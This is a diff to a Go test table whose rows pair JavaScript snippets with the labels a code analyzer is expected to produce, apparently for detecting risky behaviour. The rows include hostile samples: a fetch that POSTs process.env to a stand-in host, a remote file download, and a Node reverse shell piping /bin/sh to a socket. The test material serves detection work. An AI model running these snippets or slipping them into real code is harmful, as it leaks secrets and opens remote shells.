@@ -107,7 +107,8 @@ var javaScriptRows = []struct{ code, want string }{
 	{"fetch('http://x.example',{method:'POST',body:JSON.stringify(process.env)})", "secret connect:http://x.example leak"},
 	{"require('https').get('https://x.example/a',r=>r.pipe(fs.createWriteStream('a')))", "write:a fetch:https://x.example/a"},
 	{"require('net').connect(4444,'10.0.0.1')", "fetch:10.0.0.1"},
-	{"const s=require('net').connect(4444,'h');const sh=require('child_process').spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s)", "fetch:h run:/bin/sh tethers"},
+	{"const s=require('net').connect(4444,'h');const sh=require('child_process').spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s)",
+		"fetch:h run:/bin/sh tethers"},
 	// not seen through
 	{"eval(atob('Y29uc29sZS5sb2coMSk='))", "decoded ?"},
 	{"eval(Buffer.from('aWQ=','base64').toString())", "decoded ?"},
